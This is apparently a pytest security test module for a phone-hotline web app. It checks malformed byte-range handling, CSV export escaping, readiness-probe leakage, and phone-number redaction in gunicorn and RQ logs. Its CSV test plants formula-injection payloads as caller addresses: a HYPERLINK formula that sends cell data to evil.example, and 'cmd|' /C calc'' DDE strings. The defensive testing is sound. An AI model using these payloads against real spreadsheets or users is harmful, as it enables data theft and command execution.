"""The low-severity holes, attacked through the Procfile's processes: a byte range that crashed
the player, a CSV cell that runs as a formula, a readiness probe that told anyone what is down,
and phone numbers in the logs of gunicorn and of the RQ worker.

(The recording download's size cap is attacked in ``tests/e2e/test_recording_size_cap.py``,
through the emulated carrier; the private file modes in ``tests/test_file_modes.py``.)
"""

from __future__ import annotations

import csv
import io
import subprocess
from pathlib import Path

from flask import Flask

import jobs
from db import db_session
from devtools import procfile
from services import services
from staff.accounts import create_user
from staff.models import StaffUser
from staff.sessions import cookie_name, start_session
from tests.conftest import PUBLIC_BASE_URL, call_params, new_call_sid
from tests.e2e.conftest import emulator, hotline  # noqa: F401 (fixtures)
from tests.e2e.test_recordings import leave_message, recording_of
from tests.e2e.test_routing_calls import drain
from tests.security.conftest import ROOT, process_env

NUMBER = "+4915112345678"
SPACED_NUMBER = "+49 151 1234 5678"


def staff_cookie(app: Flask, role: str) -> str:
    """A ``Cookie`` header value for a signed-in staff member of ``role``: the account and its
    server-side session are made directly in the database (as ``tests/staff/support.sign_in``
    does), not through the login pages, which other tests attack. The one place to change if
    signing in comes to need more (a forced password change, a second factor)."""
    with app.app_context():
        db = db_session()
        enrolment = create_user(
            db, services().protector, username=f"{role}-low", display_name=role.title(),
            role=role, password="violet-harbour-lantern-42", language="en",
        )  # fmt: skip
        user = db.get(StaffUser, enrolment.user_id)
        assert user is not None
        user.totp_enabled = True
        token, _ = start_session(db, user, "127.0.0.1")
        db.commit()
        return f"{cookie_name(services().settings)}={token}"


# -- a byte range the player could not serve --------------------------------------------------

MALFORMED_RANGES = [
    "bytes=10-5", "bytes=-0", "bytes=999999999-", "bytes=0-1,5-6", "bytes=0-1, 2-3, 4-5",
    "bytes=-", "bytes=", "bytes=abc", "bytes=1-2-3", "bytes=0x10-20", "garbage", "bytes",
    "bytes=" + "9" * 5000 + "-",
]  # fmt: skip


def test_a_malformed_or_unsatisfiable_byte_range_is_416_not_500(hotline, served):  # noqa: F811
    """An authorised viewer's player (or a script with their session) asks the recording's
    audio for ranges that end before they start, start past the end, ask for nothing, ask for
    several, or are not ranges at all. The answer is ``416 Range Not Satisfiable`` with
    ``Content-Range: bytes */<size>`` (RFC 9110 §15.5.17), never a 500 and never a traceback in
    the log; a good range still gets its 206."""
    leave_message(hotline)
    drain(hotline)
    rec = recording_of(hotline)
    assert rec.size_bytes and rec.size_bytes < 999_999_999
    web = served("web")
    url = f"/console/recordings/{rec.id}/audio"
    cookie = staff_cookie(hotline.app, "supervisor")

    for header in MALFORMED_RANGES:
        answer = web.request("GET", url, headers={"Cookie": cookie, "Range": header})
        assert answer.status == 416, (header, answer.status, answer.text[:200])
        assert answer.headers["content-range"] == f"bytes */{rec.size_bytes}", header
        assert answer.body == b""
    part = web.request("GET", url, headers={"Cookie": cookie, "Range": "bytes=10-19"})
    assert part.status == 206 and len(part.body) == 10
    assert part.headers["content-range"] == f"bytes 10-19/{rec.size_bytes}"
    other_unit = web.request("GET", url, headers={"Cookie": cookie, "Range": "items=0-5"})
    assert other_unit.status == 200 and len(other_unit.body) == rec.size_bytes  # ignored
    log = web.log()
    assert "Traceback" not in log and "Error handling request" not in log


def test_a_range_request_without_a_session_is_refused_before_any_range_is_read(served):
    """Nobody signed in: the audio URL with a malformed range is refused as any anonymous
    request is (a redirect to the login page or a 401/403/404), never a 500."""
    web = served("web")
    for header in ("bytes=10-5", "bytes=0-1,5-6", "garbage"):
        answer = web.request("GET", "/console/recordings/1/audio", headers={"Range": header})
        assert answer.status in (302, 401, 403, 404), (header, answer.status)
    assert "Traceback" not in web.log()


# -- a CSV cell that runs in a spreadsheet ----------------------------------------------------


def test_a_caller_address_planted_as_a_formula_is_exported_as_text(app, served):
    """The carrier passes a SIP caller's ``From`` as the caller set it. A caller who
    calls as ``=HYPERLINK(…)`` (or ``@SUM(…)``, ``-2+3+cmd|…``) waits for an admin to export the
    call log with full numbers and open it in a spreadsheet. Every cell of the export that
    starts like a formula starts with a single quote: text, never a formula."""
    web = served("web")
    planted = [
        '=HYPERLINK("https://evil.example/?"&A2,"Open")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        NUMBER,
    ]
    for address in planted:
        answer = web.signed_post(
            PUBLIC_BASE_URL, "/voice/incoming", call_params(new_call_sid(), from_=address)
        )
        assert answer.status == 200, answer.text
    cookie = staff_cookie(app, "admin")
    export = web.request("GET", "/console/calls.csv?numbers=full", headers={"Cookie": cookie})
    assert export.status == 200 and export.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(export.text)))
    assert rows[0][0] == "interaction" and len(rows) == 1 + len(planted)
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    exported = {row[-1] for row in rows[1:]}
    # Each address is either kept (then quoted) or replaced by something harmless.
    for address in planted:
        assert address not in exported
    assert "'" + NUMBER in exported


# -- what the readiness probe tells anyone ----------------------------------------------------


def test_readyz_tells_an_anonymous_client_only_that_it_is_not_ready(served):
    """``/readyz`` is public (load balancers and probes call it). With Redis gone it said which
    component failed and with which exception: a free map of the back end. Now it answers
    ``503 {"status": "unavailable"}`` and nothing else; the operator reads the rest in the log.
    """
    healthy = served("web")
    ready = healthy.request("GET", "/readyz")
    assert (ready.status, ready.body) == (200, b'{"status":"ok"}\n')
    down = served("web", REDIS_URL="unix:///nonexistent/redis.sock")
    answer = down.request("GET", "/readyz")
    assert answer.status == 503
    assert answer.body == b'{"status":"unavailable"}\n'
    assert "readyz: not ready: redis (" in down.log()


# -- phone numbers in the logs of gunicorn and of the RQ worker -------------------------------

# Requests whose bytes carry a caller's number where gunicorn itself logs them: in the query
# string (the access log), in a request line it refuses, in a header name it refuses.
NUMBER_IN_REQUESTS = [
    f"GET /healthz?From=%2B{NUMBER[1:]} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    f"GET /healthz?From={NUMBER} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    f"GET /x?From={SPACED_NUMBER} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    f"GET /x HTTP/1.1\r\nHost: x\r\nFrom {NUMBER}: 1\r\nConnection: close\r\n\r\n",
    f"GET /x?n={NUMBER} HTTP/1.1\r\nHost: x\r\nContent-Length: {NUMBER}\r\n\r\n",
]


def _digits(number: str) -> str:
    return "".join(char for char in number if char.isdigit())


def test_gunicorn_logs_no_phone_number_from_a_request(served):
    """A client (or a misconfigured integration) puts a caller's number in a URL or a header
    gunicorn refuses. gunicorn's error log and its access log (on here, as an operator may turn
    it on) are written by handlers of gunicorn's own that do not propagate to the app's: the
    redaction filter is on them too, so the log shows ``[number]``, never the digits."""
    web = served("web", GUNICORN_CMD_ARGS="--access-logfile -")
    for raw in NUMBER_IN_REQUESTS:
        web.raw(raw.encode())
    log = web.log()
    assert log.count("[number]") >= len(NUMBER_IN_REQUESTS), log
    assert "Invalid request from ip=" in log and '"GET /healthz?From=[number]' in log, log
    for written in (_digits(NUMBER), "151 1234 5678", NUMBER[1:8]):
        assert written not in log, log


def test_the_rq_worker_logs_no_phone_number_from_a_job(app, settings, tmp_path: Path):
    """A job whose arguments or error carry a number (a bug, a library's exception message):
    ``rq worker`` logs each job's call with its arguments and each failure's traceback through
    handlers of its own that do not propagate. The Procfile's worker, run for real, writes
    ``[number]`` where the number would be."""
    with app.app_context():
        jobs.enqueue("builtins.int", SPACED_NUMBER, job_id="low-redaction")  # a ValueError
    env = process_env(settings)
    log_path = tmp_path / "worker.log"
    with log_path.open("wb") as log_file:
        finished = subprocess.run(
            [*procfile.command("worker", env), "--burst"], cwd=ROOT, env=env,
            stdout=log_file, stderr=subprocess.STDOUT, timeout=120, check=False,
        )  # fmt: skip
    log = log_path.read_text(errors="replace")
    assert finished.returncode == 0, log
    assert "builtins.int('[number]')" in log, log  # the job's description
    assert "ValueError: invalid literal for int() with base 10: '[number]'" in log, log
    for written in (_digits(NUMBER), "151 1234 5678", "1234 5678"):
        assert written not in log, log
